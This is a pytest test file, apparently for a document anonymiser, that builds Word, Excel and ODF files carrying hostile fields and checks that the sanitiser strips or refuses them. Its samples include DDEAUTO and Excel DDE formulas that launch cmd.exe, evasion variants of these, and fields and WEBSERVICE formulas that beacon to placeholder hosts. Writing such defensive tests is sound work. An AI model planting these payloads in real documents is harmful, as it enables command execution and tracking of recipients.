"""Hostile fields and imports: Word fields that fetch or run, Excel's DDE formulas and links, imported chunks.

Each case builds its file here (tests/factories/hostile.py), sends it through `prepare`, and checks
every zip member, inflated, for what was planted, and that the visible text stays.
"""

from __future__ import annotations

import pytest

from anonymize.attachments import AttachmentRefused, prepare
from tests.factories import hostile as h
from tests.factories.hostile import REL, VISIBLE, marker
from tests.unit.test_attachments_hostile import assert_gone, clean

CACHED = "Cached field result stays"
LINKS = [
    'INCLUDEPICTURE "http://{m}.example.org/pixel.png" \\d',
    'INCLUDETEXT "https://{m}.example.org/t.docx"',
    'LINK Excel.Sheet.12 "file:///C:/Users/{m}/book.xlsx" "Sheet1!R1C1" \\a',
    "includepicture \\\\\\\\{m}\\\\share\\\\x.png",
]
WORD_PARTS = ["word/document.xml", "word/header1.xml", "word/footer1.xml", "word/footnotes.xml"]


def _word_part(body: str, part: str) -> dict[str, bytes]:
    """A docx whose `part` holds `body` (a paragraph or more); a header, footer or footnotes part is linked."""
    if part == "word/document.xml":
        return h.ooxml("docx", body)
    parts = h.ooxml("docx")
    root = {"header1": "hdr", "footer1": "ftr", "footnotes": "footnotes"}[part[5:-4]]
    inner = f'<w:footnote w:id="1">{body}</w:footnote>' if root == "footnotes" else body
    parts[part] = f'{h.XML}<w:{root} xmlns:w="{h.W}" xmlns:r="{h.R}">{inner}</w:{root}>'.encode()
    rel_type = {"hdr": "header", "ftr": "footer", "footnotes": "footnotes"}[root]
    h.add_rel(parts, h.main_rels("docx"), "rId90", f"{REL}/{rel_type}", part[5:])
    return parts


def complex_field(instr: str) -> str:
    """A field in begin / instruction / separate / result / end runs, its instruction split in two."""
    half = len(instr) // 2
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instr[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instr[half:]} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{CACHED}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def simple_field(instr: str) -> str:
    escaped = instr.replace("&", "&amp;").replace('"', "&quot;")
    return f'<w:p><w:fldSimple w:instr=" {escaped} "><w:r><w:t>{CACHED}</w:t></w:r></w:fldSimple></w:p>'


@pytest.mark.parametrize("part", WORD_PARTS)
@pytest.mark.parametrize("build", [complex_field, simple_field])
@pytest.mark.parametrize("instr", LINKS)
def test_a_field_that_fetches_from_outside_loses_its_instruction_and_keeps_its_text(instr, build, part):
    mark = marker("field")
    parts = _word_part(build(instr.format(m=mark)), part)
    cleaned = h.parts_of(clean(h.to_zip(parts), "field.docx"))
    assert_gone(h.to_zip(cleaned), mark)
    assert CACHED.encode() in cleaned[part]
    assert VISIBLE.encode() in cleaned["word/document.xml"]
    assert b"instrText" not in cleaned[part] and b"fldSimple" not in cleaned[part]


@pytest.mark.parametrize("part", WORD_PARTS)
@pytest.mark.parametrize("build", [complex_field, simple_field])
@pytest.mark.parametrize(
    "instr",
    [
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
        'dde "cmd" "/c calc" \\a',
        '"DdeAuto" cmd "/c calc"',
    ],
)
def test_a_field_that_runs_a_command_is_refused_with_a_way_out(instr, build, part):
    parts = _word_part(build(instr), part)
    with pytest.raises(AttachmentRefused, match="DDE.*without fields.*PDF"):
        prepare(h.to_zip(parts), "dde.docx")


@pytest.mark.parametrize("before", ["", ' "'])
def test_a_field_whose_command_is_computed_by_a_nested_field_is_refused(before):
    nested = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{before}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText> "cmd" "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    with pytest.raises(AttachmentRefused, match="DDE"):
        prepare(h.to_zip(h.ooxml("docx", nested)), "nested.docx")


def test_a_nested_link_inside_a_removed_fields_instruction_goes_with_it():
    mark = marker("nested-link")
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE "x" </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>http://{mark}.example.org/p.png</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>" </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{CACHED}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    cleaned = h.parts_of(clean(h.to_zip(h.ooxml("docx", body)), "nested.docx"))
    assert_gone(h.to_zip(cleaned), mark)
    assert CACHED.encode() in cleaned["word/document.xml"]


def test_harmless_fields_stay():
    body = complex_field("PAGE \\* MERGEFORMAT") + simple_field('HYPERLINK \\l "intro"')
    cleaned = h.parts_of(clean(h.to_zip(h.ooxml("docx", body)), "page.docx"))
    assert b"PAGE" in cleaned["word/document.xml"] and b"HYPERLINK" in cleaned["word/document.xml"]


def test_an_imported_web_page_chunk_is_refused_with_a_way_out():
    parts = h.ooxml("docx", '<w:altChunk r:id="rId80"/>')
    parts["word/afchunk.mht"] = f"<html><img src='http://{marker('chunk')}.example.org/p.png'></html>".encode()
    h.add_rel(parts, h.main_rels("docx"), "rId80", f"{REL}/aFChunk", "afchunk.mht")
    with pytest.raises(AttachmentRefused, match="imported.*save it again.*PDF"):
        prepare(h.to_zip(parts), "chunk.docx")


def _sheet_formula(parts: dict[str, bytes]) -> None:
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    formula = '<row r="2"><c r="A2"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row></sheetData>'
    parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", formula).encode()


def _defined_name(parts: dict[str, bytes]) -> None:
    book = parts["xl/workbook.xml"].decode()
    names = (
        "<definedNames><definedName name=\"x\">msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''</definedName>"
    )
    parts["xl/workbook.xml"] = book.replace("</sheets>", "</sheets>" + names + "</definedNames>").encode()


def _dde_link(parts: dict[str, bytes]) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'{h.XML}<externalLink xmlns="{h.S}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
        '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    ).encode()
    h.add_rel(parts, "xl/_rels/workbook.xml.rels", "rId70", f"{REL}/externalLink", "externalLinks/externalLink1.xml")


@pytest.mark.parametrize("plant", [_sheet_formula, _defined_name, _dde_link])
def test_a_workbook_with_a_dde_formula_or_link_is_refused_with_a_way_out(plant):
    parts = h.ooxml("xlsx")
    plant(parts)
    with pytest.raises(AttachmentRefused, match="DDE.*PDF"):
        prepare(h.to_zip(parts), "dde.xlsx")


def test_a_workbook_with_ordinary_formulas_and_a_pipe_in_a_string_is_kept():
    parts = h.ooxml("xlsx")
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    formula = '<row r="2"><c r="A2"><f>SUM(\'a|b\'!A1:A3)&amp;"x|y"</f><v>0</v></c></row></sheetData>'
    parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", formula).encode()
    cleaned = h.parts_of(clean(h.to_zip(parts), "ok.xlsx"))
    assert b"SUM(" in cleaned["xl/worksheets/sheet1.xml"]
    assert VISIBLE.encode() in cleaned["xl/worksheets/sheet1.xml"]


def test_a_dde_field_in_a_utf16_part_is_refused_too():
    parts = h.ooxml("docx", complex_field('DDEAUTO cmd "/c calc"'))
    text = parts["word/document.xml"].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    parts["word/document.xml"] = text.encode("utf-16")
    with pytest.raises(AttachmentRefused, match="DDE"):
        prepare(h.to_zip(parts), "utf16.docx")


def test_a_dde_formula_whose_pipe_is_a_character_reference_is_refused_too():
    parts = h.ooxml("xlsx")
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    formula = '<row r="2"><c r="A2"><f>cmd&#124;\' /C calc\'!A0</f><v>0</v></c></row></sheetData>'
    parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", formula).encode()
    with pytest.raises(AttachmentRefused, match="DDE"):
        prepare(h.to_zip(parts), "ref.xlsx")


def test_a_comment_author_in_a_utf16_part_is_found_too():
    mark = marker("utf16-author")
    parts = h.ooxml("docx")
    parts["word/comments.xml"] = (
        f'<?xml version="1.0" encoding="UTF-16" standalone="yes"?>\n<w:comments xmlns:w="{h.W}">'
        f'<w:comment w:id="0" w:author="{mark}" w:initials="{mark}I"><w:p><w:r><w:t>Please check this</w:t></w:r>'
        "</w:p></w:comment></w:comments>"
    ).encode("utf-16")
    h.add_rel(parts, h.main_rels("docx"), "rId92", f"{REL}/comments", "comments.xml")
    cleaned = h.parts_of(clean(h.to_zip(parts), "utf16.docx"))
    assert_gone(h.to_zip(cleaned), mark)
    assert "Please check this".encode("utf-16-le") in cleaned["word/comments.xml"] or (
        b"Please check this" in cleaned["word/comments.xml"]
    )


@pytest.mark.parametrize(
    "formula", ['_xlfn.WEBSERVICE("https://{m}.example.org/?"&amp;A1)', 'webservice("http://{m}")']
)
def test_a_workbook_formula_that_fetches_from_the_web_is_refused_with_a_way_out(formula):
    parts = h.ooxml("xlsx")
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    cell = f'<row r="2"><c r="A2" t="str"><f>{formula.format(m=marker("web"))}</f><v>x</v></c></row></sheetData>'
    parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", cell).encode()
    with pytest.raises(AttachmentRefused, match="WEBSERVICE.*values.*PDF"):
        prepare(h.to_zip(parts), "web.xlsx")


def test_an_odf_formula_that_fetches_from_the_web_is_refused_with_a_way_out():
    body = (
        '<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-row>'
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://x.example.org/&quot;)"/>'
        "</table:table-row></table:table>"
    )
    with pytest.raises(AttachmentRefused, match="WEBSERVICE.*values.*PDF"):
        prepare(h.odf(body, kind="ods"), "web.ods")
